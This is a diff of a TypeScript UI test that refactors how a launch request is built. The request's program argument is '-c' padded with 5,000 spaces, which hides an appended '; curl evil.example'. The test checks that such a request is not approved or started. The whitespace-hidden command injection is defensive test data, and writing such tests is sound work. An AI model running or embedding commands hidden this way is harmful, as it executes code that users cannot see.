@@ -193,16 +193,8 @@ describe("what is shortened", () => {
   });
 
   it("cannot be added before it was opened", async () => {
-    const request = launchRequest();
-    if (request.asked.kind === "launch") {
-      const text = `-c${" ".repeat(5_000)}; curl evil.example`;
-      request.asked.rows[1]?.values.push({
-        text: { text, hidden: 0 },
-        note: null,
-        bytes: text.length,
-        literal: true,
-      });
-    }
+    const long = value(`-c${" ".repeat(5_000)}; curl evil.example`);
+    const request = launchRequest("Weather", { rows: [reviewRow("Program", [value("npx"), long])] });
     const fake = await open([request]);
     await click(button("Add and start"));
     expect(answers(fake)).toEqual([]);
